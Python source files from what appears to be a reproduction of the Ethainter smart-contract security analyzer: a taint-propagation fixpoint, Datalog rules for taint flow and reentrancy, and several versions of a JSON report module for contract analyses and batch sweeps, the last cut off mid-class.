            result.storage_tainted.add(variable)
            result.witness.setdefault(variable, source)
            return True

        def taint_slot(slot: int, source: str) -> bool:
            if slot in result.tainted_slots:
                return False
            result.tainted_slots.add(slot)
            result.slot_witness.setdefault(slot, source)
            return True

        def witness_of(variable: str) -> str:
            return result.witness.get(variable, "?")

        def effective_taint(variable: str, statement_id: str) -> Optional[str]:
            """Does ``variable`` carry taint *at* ``statement_id``?

            Storage taint is carried by the privileged caller everywhere;
            input taint only where the attacker can execute.
            """
            if variable in result.storage_tainted:
                return "storage"
            if variable in result.input_tainted and reachable(statement_id):
                return "input"
            return None

        any_unknown_tainted_store = False

        changed = True
        while changed:
            result.iterations += 1
            if result.iterations > options.max_iterations:
                raise RuntimeError("taint fixpoint did not converge")
            if options.deadline is not None:
                options.deadline.check()
            changed = False

            # 1. Guard compromise (skipped entirely when guards are not
            # modeled: reachability ignores them, Fig. 8b).
            for guard in self.guards.guards if options.model_guards else ():
                if guard.ident in result.compromised_guards:
                    continue
                compromised = False
                if guard.kind == EQ_SENDER:
                    if any(slot in result.tainted_slots for slot in guard.compared_slots):
                        compromised = True  # Uguard-T
                    elif guard.compared_var is not None and (
                        guard.compared_var in result.input_tainted
                        or guard.compared_var in result.storage_tainted
                    ):
                        compromised = True
                elif guard.kind == DS_LOOKUP:
                    if (
                        guard.mapping_slot is not None
                        and guard.mapping_slot in result.writable_mappings
                    ):
                        compromised = True
                    elif (
                        guard.base_var in result.input_tainted
                        or guard.base_var in result.storage_tainted
                    ):
                        compromised = True
                if compromised:
                    result.compromised_guards.add(guard.ident)
                    changed = True

            # 2. Taint sources: attacker calldata at reachable statements.
            for variable, stmt in facts.calldata_defs:
                if reachable(stmt.ident) and variable not in result.input_tainted:
                    taint_input(variable, stmt.ident)
                    changed = True

            # 3. Flow edges.
            for source, dest, statement_id in self._edges:
                if source in result.storage_tainted:
                    if taint_storage_var(dest, witness_of(source)):
                        changed = True
                if source in result.input_tainted and reachable(statement_id):
                    if taint_input(dest, witness_of(source)):
                        changed = True

            if options.model_storage_taint:
                known_slots = facts.known_slots

                # 4. Stores.
                for store in facts.storage_stores:
                    statement_id = store.statement.ident
                    value_taint = effective_taint(store.value_var, statement_id)
                    if store.const_slot is not None:
                        if value_taint and taint_slot(
                            store.const_slot, witness_of(store.value_var)
                        ):
                            changed = True
                        continue
                    # Unknown-address store.  A store whose address resolves
                    # to a mapping element (hash-derived, collision-free) is
                    # *confined* to that mapping and cannot alias scalar
                    # slots — this is the data-structure modeling that
                    # separates Ethainter from Securify's "unrestricted
                    # write" smearing (§6.2).  StorageWrite-2 therefore only
                    # fires for genuinely unresolved addresses.
                    is_mapping_confined = any(
                        source in self.storage.mapping_accesses
                        for source in self.storage.copy_sources.get(
                            store.address_var, {store.address_var}
                        )
                    )
                    address_taint = effective_taint(store.address_var, statement_id)
                    if value_taint and address_taint and not is_mapping_confined:
                        # StorageWrite-2: everything known becomes tainted —
                        # unless the value-analysis stratum bounded the
                        # address, in which case only the candidate slots
                        # (a subset of the known slots) can be written.
                        resolved = self.storage.resolved_store_slots.get(
                            statement_id
                        )
                        if resolved is None:
                            targets = known_slots
                        else:
                            targets = [s for s in resolved if s in known_slots]
                        for slot in targets:
                            if taint_slot(slot, witness_of(store.value_var)):
                                changed = True
                    if options.conservative_storage and value_taint:
                        if not any_unknown_tainted_store:
                            any_unknown_tainted_store = True
                            changed = True
                        for slot in known_slots:
                            if taint_slot(slot, witness_of(store.value_var)):
                                changed = True
                    # Attacker-writable mapping detection: a reachable store
                    # through a hash-derived address whose key the attacker
                    # chooses (tainted) or *is* (sender-derived).
                    for address_source in self.storage.copy_sources.get(
                        store.address_var, {store.address_var}
                    ):
                        access = self.storage.mapping_accesses.get(address_source)
                        if access is None:
                            continue
                        key = access.key_var
                        key_controlled = (
                            effective_taint(key, statement_id) is not None
                            or (
                                self.storage.is_sender_derived(key)
                                and reachable(statement_id)
                            )
                        )
                        if key_controlled and access.base_slot not in result.writable_mappings:
                            result.writable_mappings.add(access.base_slot)
                            changed = True

                # 5. Loads: storage taint flows out everywhere (Guard-1).
                for load in facts.storage_loads:
                    if load.def_var is None:
                        continue
                    if load.const_slot is not None:
                        if load.const_slot in result.tainted_slots:
                            if taint_storage_var(
                                load.def_var,
                                result.slot_witness.get(load.const_slot, "?"),
                            ):
                                changed = True
                    elif options.conservative_storage:
                        if any_unknown_tainted_store or result.tainted_slots:
                            if taint_storage_var(load.def_var, "conservative"):
                                changed = True

        # Final reachability snapshot.
        for stmt in facts.program.statements():
            if reachable(stmt.ident):
                result.reachable.add(stmt.ident)
        return result
