"""The Figure 3/4 inference rules as Datalog, run on :mod:`repro.datalog`.

The paper implements Ethainter "as a set of several hundred declarative
rules in the Datalog language" executed by Soufflé (§5).  This module states
the distilled formal model in exactly that style — the rules below are a
line-by-line transliteration of Figures 3 and 4 — and evaluates it on our
semi-naive engine.  The test suite checks the resulting relations coincide
with the hand-written fixpoint of :mod:`repro.core.abstract_analysis` on
both crafted and randomly generated programs.
"""

from __future__ import annotations

from typing import Dict, Set

from repro.core.abstract_analysis import AbstractResult, analyze_abstract
from repro.core.lang import (
    AbstractProgram,
    Call,
    Const,
    Guard,
    Hash,
    Input,
    Op,
    SENDER,
    SLoad,
    SStore,
    Sink,
)
from repro.datalog import Database, Engine, parse_program

# The rule text mirrors Figures 3 and 4; relation names follow Figure 2.
ETHAINTER_RULES = r"""
// ---- Figure 4: sender-keyed data structures -------------------------
DS(x) :- SenderVar(x).                        // DS-SenderKey
DSA(x) :- HashStmt(x, y), DS(y).              // DS-Lookup
DSA(x) :- HashStmt(x, y), DSA(y).             // DSA-Lookup
DSA(x) :- OpUse(x, y), DSA(y).                // DS-AddrOp-1/2
DS(t)  :- SLoadStmt(f, t), DSA(f).            // DSA-Load

// ---- Figure 3: information flow -------------------------------------
InputTaintedVar(x) :- InputStmt(x).                          // LoadInput
InputTaintedVar(x) :- OpUse(x, y), InputTaintedVar(y).       // Operation-1/2
StorageTaintedVar(x) :- OpUse(x, y), StorageTaintedVar(y).
InputTaintedVar(x) :- HashStmt(x, y), InputTaintedVar(y).    // hash extension
StorageTaintedVar(x) :- HashStmt(x, y), StorageTaintedVar(y).

StorageTaintedVar(x) :- GuardStmt(x, p, y), StorageTaintedVar(y).   // Guard-1
InputTaintedVar(x) :- GuardStmt(x, p, y), InputTaintedVar(y),
                      NonSanitizingGuard(p).                        // Guard-2

TaintedVar(x) :- InputTaintedVar(x).
TaintedVar(x) :- StorageTaintedVar(x).

TaintedStorage(v) :- SStoreStmt(f, t), TaintedVar(f), ConstVal(t, v).   // StorageWrite-1
TaintedStorage(v) :- SStoreStmt(f, t), TaintedVar(f), TaintedVar(t),
                     !HasConst(t), KnownSlot(v).                        // StorageWrite-2

StorageTaintedVar(t) :- SLoadStmt(f, t), ConstVal(f, v),
                        TaintedStorage(v).                              // StorageLoad

Violation(x) :- SinkStmt(x), TaintedVar(x).                             // Violation

NonSanitizingGuard(p) :- EqStmt(p, y, z), SenderVar(y),
                         Alias(z, v), TaintedStorage(v).                // Uguard-T
NonSanitizingGuard(p) :- EqStmt(p, y, z), SenderVar(z),
                         Alias(y, v), TaintedStorage(v).
NonSanitizingGuard(p) :- EqStmt(p, y, z), !DS(y), !DS(z).               // Uguard-NDS

// ---- §4.5: computed sinks ("tainted owner variable") ----------------
SinkSlot(v) :- GuardStmt(g, p, x), EqStmt(p, y, z), SenderVar(y),
               Alias(z, v), TaintedVar(x).
SinkSlot(v) :- GuardStmt(g, p, x), EqStmt(p, y, z), SenderVar(z),
               Alias(y, v), TaintedVar(x).

// ---- Reentrancy ordering stratum ------------------------------------
// Straight-line instruction order is precomputed into the EDB (the
// engine has no arithmetic): CallBeforeStore(c, v) when a non-static
// call c precedes an SSTORE to constant slot v, CallPathRead(c, v) when
// an SLOAD of v precedes c.  A call that re-reads a slot it later
// rewrites re-enters against a stale check; a bare write-after is the
// weaker checks-effects-interactions residue, derived in a later
// stratum so it never doubles a ReentrantCall.
ReentrantCall(c) :- CallStmt(c), CallBeforeStore(c, v), CallPathRead(c, v).
StateWriteAfterCall(c) :- CallStmt(c), CallBeforeStore(c, v), !ReentrantCall(c).
"""


def facts_from_program(program: AbstractProgram) -> Database:
    """Extract the EDB relations from an abstract program.

    ``ConstVal`` and ``Alias`` mirror the conventional value-flow/alias
    analyses the paper takes as given; they are computed here by the shared
    pre-stratum code in :mod:`repro.core.abstract_analysis` so that both
    implementations see identical auxiliary relations.
    """
    database = Database()
    database.add("SenderVar", (SENDER,))

    # Reuse the reference implementation's pre-stratum results for
    # ConstValue and StorageAliasVar (they are defined before any taint).
    reference = analyze_abstract(AbstractProgram(instructions=list(program.instructions)))

    for variable, value in reference.const_value.items():
        database.add("ConstVal", (variable, value))
        database.add("HasConst", (variable,))
    for variable, slots in reference.storage_alias.items():
        for slot in slots:
            database.add("Alias", (variable, slot))

    known_slots: Set[int] = set()
    for ins in program.instructions:
        if isinstance(ins, Input):
            database.add("InputStmt", (ins.x,))
        elif isinstance(ins, Op):
            database.add("OpUse", (ins.x, ins.y))
            if ins.z is not None:
                database.add("OpUse", (ins.x, ins.z))
            if ins.is_equality and ins.z is not None:
                database.add("EqStmt", (ins.x, ins.y, ins.z))
        elif isinstance(ins, Hash):
            database.add("HashStmt", (ins.x, ins.y))
        elif isinstance(ins, Guard):
            database.add("GuardStmt", (ins.x, ins.p, ins.y))
        elif isinstance(ins, SStore):
            database.add("SStoreStmt", (ins.f, ins.t))
            slot = reference.const_value.get(ins.t)
            if slot is not None:
                known_slots.add(slot)
        elif isinstance(ins, SLoad):
            database.add("SLoadStmt", (ins.f, ins.t))
            slot = reference.const_value.get(ins.f)
            if slot is not None:
                known_slots.add(slot)
        elif isinstance(ins, Sink):
            database.add("SinkStmt", (ins.x,))
        elif isinstance(ins, Const):
            pass  # already covered by ConstVal
    for slot in known_slots:
        database.add("KnownSlot", (slot,))

    # Reentrancy ordering EDB: straight-line position precomputed here so
    # the rules stay order-free (the engine has no comparisons).
    for position, ins in enumerate(program.instructions):
        if not isinstance(ins, Call) or ins.static:
            continue
        database.add("CallStmt", (ins.ident,))
        for earlier in program.instructions[:position]:
            if isinstance(earlier, SLoad):
                slot = reference.const_value.get(earlier.f)
                if slot is not None:
                    database.add("CallPathRead", (ins.ident, slot))
        for later in program.instructions[position + 1 :]:
            if isinstance(later, SStore):
                slot = reference.const_value.get(later.t)
                if slot is not None:
                    database.add("CallBeforeStore", (ins.ident, slot))
    return database


def analyze_with_datalog(
    program: AbstractProgram, use_plans: bool = True
) -> AbstractResult:
    """Run the Figure 3/4 rules on the Datalog engine; package the result
    in the same :class:`AbstractResult` shape as the direct fixpoint.
    ``use_plans=False`` runs the legacy interpreter (benchmark baseline)."""
    database = facts_from_program(program)
    rules = parse_program(ETHAINTER_RULES).rules
    engine = Engine(rules, use_plans=use_plans)
    engine.evaluate(database)

    result = AbstractResult()
    result.engine_stats = engine.stats.as_dict()
    result.input_tainted = {row[0] for row in database.facts("InputTaintedVar")}
    result.storage_tainted = {row[0] for row in database.facts("StorageTaintedVar")}
    result.tainted_storage = {row[0] for row in database.facts("TaintedStorage")}
    result.non_sanitizing = {row[0] for row in database.facts("NonSanitizingGuard")}
    result.ds = {row[0] for row in database.facts("DS")}
    result.dsa = {row[0] for row in database.facts("DSA")}
    result.violations = {row[0] for row in database.facts("Violation")}
    result.computed_sinks = {row[0] for row in database.facts("SinkSlot")}
    result.reentrant_calls = {row[0] for row in database.facts("ReentrantCall")}
    result.state_write_after_call = {
        row[0] for row in database.facts("StateWriteAfterCall")
    }

    const_value: Dict[str, int] = {}
    for variable, value in database.facts("ConstVal"):
        const_value[variable] = value
    result.const_value = const_value
    alias: Dict[str, Set[int]] = {}
    for variable, slot in database.facts("Alias"):
        alias.setdefault(variable, set()).add(slot)
    result.storage_alias = alias
    return result
