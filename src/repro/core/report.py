"""Structured reporting: JSON-serializable analysis reports.

The live deployment the paper describes (contract-library.com) publishes
per-contract vulnerability reports and chain-level statistics; this module
provides the equivalent report objects for single contracts and batch
sweeps, used by the CLI's ``analyze --json`` and ``sweep`` commands.  The
per-stage pipeline profile (``--profile``) and artifact-cache counters
surface here too, so sweep reports record where wall-clock actually went.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field
from typing import Dict, List, Optional

from repro.core.analysis import AnalysisResult
from repro.core.vulnerabilities import VULNERABILITY_KINDS


@dataclass
class ContractReport:
    """One contract's analysis, ready for serialization."""

    name: str
    bytecode_size: int
    block_count: int
    statement_count: int
    elapsed_seconds: float
    error: Optional[str]
    deadline_exceeded: bool = False
    warnings: List[Dict] = field(default_factory=list)
    stage_seconds: Dict[str, float] = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    precision: Dict[str, int] = field(default_factory=dict)
    # Datalog EngineStats.as_dict() when a datalog engine ran the taint
    # stage; None for the tuned Python fixpoint.
    datalog: Optional[Dict] = None

    @classmethod
    def from_result(
        cls, result: AnalysisResult, name: str = "", bytecode_size: int = 0
    ) -> "ContractReport":
        return cls(
            name=name,
            bytecode_size=bytecode_size,
            block_count=result.block_count,
            statement_count=result.statement_count,
            elapsed_seconds=round(result.elapsed_seconds, 6),
            error=result.error,
            deadline_exceeded=result.deadline_exceeded,
            warnings=[
                {
                    "kind": warning.kind,
                    "pc": warning.pc,
                    "statement": warning.statement,
                    "slot": warning.slot,
                    "detail": warning.detail,
                }
                for warning in result.warnings
            ],
            stage_seconds={
                name: round(seconds, 6)
                for name, seconds in result.stage_seconds().items()
            },
            cache_hits=result.cache_hits,
            cache_misses=result.cache_misses,
            precision=result.precision.as_dict(),
            datalog=result.datalog_stats,
        )

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(asdict(self), indent=indent)


@dataclass
class SweepReport:
    """Aggregate over a batch of contracts (the §6.2 statistics shape)."""

    total_contracts: int = 0
    analyzed: int = 0
    errors: int = 0
    flagged: int = 0
    deadline_exceeded: int = 0
    kind_counts: Dict[str, int] = field(
        default_factory=lambda: {kind: 0 for kind in VULNERABILITY_KINDS}
    )
    total_elapsed_seconds: float = 0.0
    stage_seconds: Dict[str, float] = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    precision: Dict[str, int] = field(default_factory=dict)
    # Summed Datalog engine counters over contracts that ran a datalog
    # engine (derived_facts, join_probes, iterations, ...).
    datalog: Dict[str, int] = field(default_factory=dict)
    contracts: List[ContractReport] = field(default_factory=list)

    def add(self, report: ContractReport) -> None:
        self.total_contracts += 1
        self.total_elapsed_seconds += report.elapsed_seconds
        for name, seconds in report.stage_seconds.items():
            self.stage_seconds[name] = self.stage_seconds.get(name, 0.0) + seconds
        self.cache_hits += report.cache_hits
        self.cache_misses += report.cache_misses
        for name, count in report.precision.items():
            self.precision[name] = self.precision.get(name, 0) + count
        if report.datalog:
            for name, value in report.datalog.items():
                if isinstance(value, int):
                    self.datalog[name] = self.datalog.get(name, 0) + value
        if report.deadline_exceeded:
            self.deadline_exceeded += 1
        if report.error:
            # Aborted run (timeout mid-stage, lift failure): no valid
            # warnings.  Late finishes arrive with error=None and
            # deadline_exceeded=True and are counted as analyzed — they are
            # never double-counted as both flagged and errored.
            self.errors += 1
            self.contracts.append(report)
            return
        self.analyzed += 1
        if report.warnings:
            self.flagged += 1
        for warning in report.warnings:
            self.kind_counts[warning["kind"]] = (
                self.kind_counts.get(warning["kind"], 0) + 1
            )
        self.contracts.append(report)

    @property
    def flag_rate(self) -> float:
        return self.flagged / self.analyzed if self.analyzed else 0.0

    def summary(self) -> Dict:
        return {
            "total_contracts": self.total_contracts,
            "analyzed": self.analyzed,
            "errors": self.errors,
            "flagged": self.flagged,
            "deadline_exceeded": self.deadline_exceeded,
            "flag_rate": round(self.flag_rate, 4),
            "kind_counts": dict(self.kind_counts),
            "avg_elapsed_seconds": round(
                self.total_elapsed_seconds / max(self.total_contracts, 1), 6
            ),
            "stage_seconds": {
                name: round(seconds, 6)
                for name, seconds in sorted(self.stage_seconds.items())
            },
            "cache": {"hits": self.cache_hits, "misses": self.cache_misses},
            "precision": {
                name: count for name, count in sorted(self.precision.items())
            },
            "datalog": {
                name: count for name, count in sorted(self.datalog.items())
            },
        }

    def to_json(self, indent: int = 2, include_contracts: bool = True) -> str:
        payload = self.summary()
        if include_contracts:
            payload["contracts"] = [asdict(report) for report in self.contracts]
        return json.dumps(payload, indent=indent)
