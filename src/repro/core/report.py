"""Structured reporting: JSON-serializable analysis reports.

The live deployment the paper describes (contract-library.com) publishes
per-contract vulnerability reports and chain-level statistics; this module
provides the equivalent report objects for single contracts and batch
sweeps, used by the CLI's ``analyze --json`` and ``sweep`` commands.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field
from typing import Dict, List, Optional

from repro.core.analysis import AnalysisResult
from repro.core.vulnerabilities import VULNERABILITY_KINDS


@dataclass
class ContractReport:
    """One contract's analysis, ready for serialization."""

    name: str
    bytecode_size: int
    block_count: int
    statement_count: int
    elapsed_seconds: float
    error: Optional[str]
    warnings: List[Dict] = field(default_factory=list)

    @classmethod
    def from_result(
        cls, result: AnalysisResult, name: str = "", bytecode_size: int = 0
    ) -> "ContractReport":
        return cls(
            name=name,
            bytecode_size=bytecode_size,
            block_count=result.block_count,
            statement_count=result.statement_count,
            elapsed_seconds=round(result.elapsed_seconds, 6),
            error=result.error,
            warnings=[
                {
                    "kind": warning.kind,
                    "pc": warning.pc,
                    "statement": warning.statement,
                    "slot": warning.slot,
                    "detail": warning.detail,
                }
                for warning in result.warnings
            ],
        )

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(asdict(self), indent=indent)


@dataclass
class SweepReport:
    """Aggregate over a batch of contracts (the §6.2 statistics shape)."""

    total_contracts: int = 0
    analyzed: int = 0
    errors: int = 0
    flagged: int = 0
    kind_counts: Dict[str, int] = field(
        default_factory=lambda: {kind: 0 for kind in VULNERABILITY_KINDS}
    )
    total_elapsed_seconds: float = 0.0
    contracts: List[ContractReport] = field(default_factory=list)

    def add(self, report: ContractReport) -> None:
        self.total_contracts += 1
        self.total_elapsed_seconds += report.elapsed_seconds
        if report.error:
            self.errors += 1
            self.contracts.append(report)
            return
        self.analyzed += 1
        if report.warnings:
            self.flagged += 1
        for warning in report.warnings:
            self.kind_counts[warning["kind"]] = (
                self.kind_counts.get(warning["kind"], 0) + 1
            )
        self.contracts.append(report)

    @property
    def flag_rate(self) -> float:
        return self.flagged / self.analyzed if self.analyzed else 0.0

    def summary(self) -> Dict:
        return {
            "total_contracts": self.total_contracts,
            "analyzed": self.analyzed,
            "errors": self.errors,
            "flagged": self.flagged,
            "flag_rate": round(self.flag_rate, 4),
            "kind_counts": dict(self.kind_counts),
            "avg_elapsed_seconds": round(
                self.total_elapsed_seconds / max(self.total_contracts, 1), 6
            ),
        }

    def to_json(self, indent: int = 2, include_contracts: bool = True) -> str:
        payload = self.summary()
        if include_contracts:
            payload["contracts"] = [asdict(report) for report in self.contracts]
        return json.dumps(payload, indent=indent)
