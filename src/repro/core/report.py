"""Structured reporting: JSON-serializable analysis reports (schema v2).

The live deployment the paper describes (contract-library.com) publishes
per-contract vulnerability reports and chain-level statistics; this module
provides the equivalent report objects for single contracts and batch
sweeps, used by the CLI's ``analyze --json`` and ``sweep`` commands.

Schema v2 contract: both report shapes carry ``"schema_version": 2`` and
use the same key names for the shared blocks — ``stage_seconds``,
``precision``, ``datalog`` — plus the sweep-level ``orchestrator`` block
(crash/watchdog/retry/resume counters from
:mod:`repro.core.orchestrator`).  :meth:`ContractReport.from_json` and
:meth:`SweepReport.from_json` reconstruct reports losslessly, so
downstream tooling can parse and re-emit reports without touching analyzer
internals: ``from_json(report.to_json()).to_json()`` is byte-identical.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field, fields as dataclass_fields
from typing import Dict, List, Optional, Union

from repro.core.analysis import AnalysisResult
from repro.core.batch import BatchEntry
from repro.core.vulnerabilities import VULNERABILITY_KINDS

SCHEMA_VERSION = 2

# Every schema version from_json can still parse, oldest first.  The
# unsupported-version error interpolates this tuple, so the message stays
# correct as versions are added without touching the format string.
SUPPORTED_SCHEMA_VERSIONS = (1, SCHEMA_VERSION)


def _parse_payload(data: Union[str, Dict], kind: str) -> Dict:
    if isinstance(data, str):
        data = json.loads(data)
    if not isinstance(data, dict):
        raise ValueError("%s payload must be a JSON object" % kind)
    version = data.get("schema_version", 1)
    if version not in SUPPORTED_SCHEMA_VERSIONS:
        raise ValueError(
            "unsupported %s schema_version %r (supported: %s)"
            % (
                kind,
                version,
                ", ".join(str(v) for v in SUPPORTED_SCHEMA_VERSIONS),
            )
        )
    return data


@dataclass
class ContractReport:
    """One contract's analysis, ready for serialization."""

    schema_version: int = SCHEMA_VERSION
    name: str = ""
    bytecode_size: int = 0
    block_count: int = 0
    statement_count: int = 0
    elapsed_seconds: float = 0.0
    error: Optional[str] = None
    deadline_exceeded: bool = False
    warnings: List[Dict] = field(default_factory=list)
    stage_seconds: Dict[str, float] = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    precision: Dict[str, int] = field(default_factory=dict)
    # Datalog engine counters when a datalog engine ran the taint stage;
    # None for the tuned Python fixpoint.  Reports built from a full
    # AnalysisResult carry EngineStats.as_dict() (including per-rule
    # derivation counts); reports built from compact batch entries carry
    # the scalar counters only.
    datalog: Optional[Dict] = None

    @classmethod
    def from_result(
        cls, result: AnalysisResult, name: str = "", bytecode_size: int = 0
    ) -> "ContractReport":
        return cls(
            name=name,
            bytecode_size=bytecode_size,
            block_count=result.block_count,
            statement_count=result.statement_count,
            elapsed_seconds=round(result.elapsed_seconds, 6),
            error=result.error,
            deadline_exceeded=result.deadline_exceeded,
            warnings=[
                {
                    "kind": warning.kind,
                    "pc": warning.pc,
                    "statement": warning.statement,
                    "slot": warning.slot,
                    "detail": warning.detail,
                }
                for warning in result.warnings
            ],
            stage_seconds={
                name: round(seconds, 6)
                for name, seconds in result.stage_seconds().items()
            },
            cache_hits=result.cache_hits,
            cache_misses=result.cache_misses,
            precision=result.precision.as_dict(),
            datalog=result.datalog_stats,
        )

    @classmethod
    def from_entry(
        cls, entry: BatchEntry, name: str = "", bytecode_size: int = 0
    ) -> "ContractReport":
        """Build a report from a compact batch entry (sweep workers return
        entries, not full results)."""
        return cls(
            name=name,
            bytecode_size=bytecode_size,
            block_count=entry.block_count,
            statement_count=entry.statement_count,
            elapsed_seconds=round(entry.elapsed_seconds, 6),
            error=entry.error,
            deadline_exceeded=entry.deadline_exceeded,
            warnings=[dict(warning) for warning in entry.warnings],
            stage_seconds={
                name: round(seconds, 6)
                for name, seconds in entry.stage_seconds.items()
            },
            cache_hits=entry.cache_hits,
            cache_misses=entry.cache_misses,
            precision=dict(entry.precision),
            datalog=dict(entry.datalog) if entry.datalog else None,
        )

    @classmethod
    def from_json(cls, data: Union[str, Dict]) -> "ContractReport":
        """Reconstruct a report from :meth:`to_json` output (round-trip
        lossless: re-serializing yields byte-identical JSON)."""
        payload = _parse_payload(data, "ContractReport")
        known = {f.name for f in dataclass_fields(cls)}
        report = cls(**{k: v for k, v in payload.items() if k in known})
        report.schema_version = SCHEMA_VERSION
        return report

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(asdict(self), indent=indent)


@dataclass
class SweepReport:
    """Aggregate over a batch of contracts (the §6.2 statistics shape)."""

    schema_version: int = SCHEMA_VERSION
    total_contracts: int = 0
    analyzed: int = 0
    errors: int = 0
    flagged: int = 0
    deadline_exceeded: int = 0
    kind_counts: Dict[str, int] = field(
        default_factory=lambda: {kind: 0 for kind in VULNERABILITY_KINDS}
    )
    total_elapsed_seconds: float = 0.0
    stage_seconds: Dict[str, float] = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    precision: Dict[str, int] = field(default_factory=dict)
    # Summed Datalog engine counters over contracts that ran a datalog
    # engine (derived_facts, join_probes, iterations, ...).
    datalog: Dict[str, int] = field(default_factory=dict)
    # Sweep-executor health counters (OrchestratorStats.as_dict()):
    # crashes, watchdog_kills, retries, recycles, resumed, plus the PR 8
    # dedup accounting (tasks_total/tasks_unique/dedup_hits/
    # result_cache_hits) — round-tripped verbatim by from_json.
    orchestrator: Dict[str, object] = field(default_factory=dict)
    contracts: List[ContractReport] = field(default_factory=list)
    # Parsed ``error_kind_counts`` kept as a fallback so a summary-only
    # report (``include_contracts=False``) still round-trips the error
    # taxonomy; recomputed from ``contracts`` whenever they are present.
    error_kind_fallback: Dict[str, int] = field(default_factory=dict)

    def add(self, report: ContractReport) -> None:
        self.total_contracts += 1
        self.total_elapsed_seconds += report.elapsed_seconds
        for name, seconds in report.stage_seconds.items():
            self.stage_seconds[name] = self.stage_seconds.get(name, 0.0) + seconds
        self.cache_hits += report.cache_hits
        self.cache_misses += report.cache_misses
        for name, count in report.precision.items():
            self.precision[name] = self.precision.get(name, 0) + count
        if report.datalog:
            for name, value in report.datalog.items():
                if isinstance(value, int):
                    self.datalog[name] = self.datalog.get(name, 0) + value
        if report.deadline_exceeded:
            self.deadline_exceeded += 1
        if report.error:
            # Aborted run (timeout mid-stage, lift failure, worker crash):
            # no valid warnings.  Late finishes arrive with error=None and
            # deadline_exceeded=True and are counted as analyzed — they are
            # never double-counted as both flagged and errored.
            self.errors += 1
            self.contracts.append(report)
            return
        self.analyzed += 1
        if report.warnings:
            self.flagged += 1
        for warning in report.warnings:
            self.kind_counts[warning["kind"]] = (
                self.kind_counts.get(warning["kind"], 0) + 1
            )
        self.contracts.append(report)

    @property
    def flag_rate(self) -> float:
        return self.flagged / self.analyzed if self.analyzed else 0.0

    def error_kind_counts(self) -> Dict[str, int]:
        """Errored contracts bucketed by taxonomy prefix (``timeout``,
        ``lift-error``, ``worker_crashed``, ``watchdog_killed``, ...)."""
        counts: Dict[str, int] = {}
        for report in self.contracts:
            if report.error:
                kind = report.error.split(":", 1)[0].strip()
                counts[kind] = counts.get(kind, 0) + 1
        if not counts and not self.contracts:
            return dict(self.error_kind_fallback)
        return counts

    def summary(self) -> Dict:
        total_elapsed = round(self.total_elapsed_seconds, 6)
        return {
            "schema_version": self.schema_version,
            "total_contracts": self.total_contracts,
            "analyzed": self.analyzed,
            "errors": self.errors,
            "error_kind_counts": self.error_kind_counts(),
            "flagged": self.flagged,
            "deadline_exceeded": self.deadline_exceeded,
            "flag_rate": round(self.flag_rate, 4),
            "kind_counts": dict(self.kind_counts),
            "total_elapsed_seconds": total_elapsed,
            "avg_elapsed_seconds": round(
                total_elapsed / max(self.total_contracts, 1), 6
            ),
            "stage_seconds": {
                name: round(seconds, 6)
                for name, seconds in sorted(self.stage_seconds.items())
            },
            "cache": {"hits": self.cache_hits, "misses": self.cache_misses},
            "precision": {
                name: count for name, count in sorted(self.precision.items())
            },
            "datalog": {
                name: count for name, count in sorted(self.datalog.items())
            },
            "orchestrator": dict(self.orchestrator),
        }

    @classmethod
    def from_json(cls, data: Union[str, Dict]) -> "SweepReport":
        """Reconstruct a sweep report from :meth:`to_json` output
        (round-trip lossless when contracts were included)."""
        payload = _parse_payload(data, "SweepReport")
        cache = payload.get("cache") or {}
        report = cls(
            total_contracts=payload.get("total_contracts", 0),
            analyzed=payload.get("analyzed", 0),
            errors=payload.get("errors", 0),
            flagged=payload.get("flagged", 0),
            deadline_exceeded=payload.get("deadline_exceeded", 0),
            kind_counts=dict(payload.get("kind_counts") or {}),
            total_elapsed_seconds=payload.get("total_elapsed_seconds", 0.0),
            stage_seconds=dict(payload.get("stage_seconds") or {}),
            cache_hits=cache.get("hits", 0),
            cache_misses=cache.get("misses", 0),
            precision=dict(payload.get("precision") or {}),
            datalog=dict(payload.get("datalog") or {}),
            orchestrator=dict(payload.get("orchestrator") or {}),
            contracts=[
                ContractReport.from_json(contract)
                for contract in payload.get("contracts") or []
            ],
            error_kind_fallback=dict(payload.get("error_kind_counts") or {}),
        )
        return report

    def to_json(self, indent: int = 2, include_contracts: bool = True) -> str:
        payload = self.summary()
        if include_contracts:
            payload["contracts"] = [asdict(report) for report in self.contracts]
        return json.dumps(payload, indent=indent)


@dataclass
class BundleReport:
    """A multi-contract bundle's analysis (:mod:`repro.core.linkage`).

    Carries one :class:`ContractReport` per bundle contract (keyed by hex
    address) plus the cross-contract layer: the resolved call graph and the
    merged-fixpoint verdicts.  A *single-contract* bundle renders as that
    contract's plain :class:`ContractReport` JSON — byte-identical to
    ``repro analyze --json`` on the same contract, with no cross block.
    """

    schema_version: int = SCHEMA_VERSION
    contracts: List[ContractReport] = field(default_factory=list)
    addresses: List[str] = field(default_factory=list)
    call_edges: List[Dict] = field(default_factory=list)
    cross_warnings: List[Dict] = field(default_factory=list)
    datalog: Optional[Dict] = None

    @classmethod
    def from_result(cls, result: "BundleResult") -> "BundleReport":
        contracts: List[ContractReport] = []
        addresses: List[str] = []
        for contract in result.bundle.contracts:
            addresses.append("0x%x" % contract.address)
            contracts.append(
                ContractReport.from_result(
                    result.results[contract.address],
                    name=contract.label(),
                    bytecode_size=len(contract.runtime()),
                )
            )
        return cls(
            contracts=contracts,
            addresses=addresses,
            call_edges=[
                {
                    "caller": "0x%x" % edge.caller,
                    "site": edge.site,
                    "pc": edge.pc,
                    "kind": edge.kind,
                    "callee": (
                        "0x%x" % edge.callee if edge.callee is not None else None
                    ),
                    "slot": edge.slot,
                }
                for edge in result.call_edges
            ],
            cross_warnings=[
                {
                    "kind": finding.kind,
                    "address": "0x%x" % finding.address,
                    "pc": finding.pc,
                    "statement": finding.statement,
                    "slot": finding.slot,
                    "via": (
                        "0x%x" % finding.via if finding.via is not None else None
                    ),
                    "detail": finding.detail,
                }
                for finding in result.cross_findings
            ],
            datalog=result.engine_stats,
        )

    @classmethod
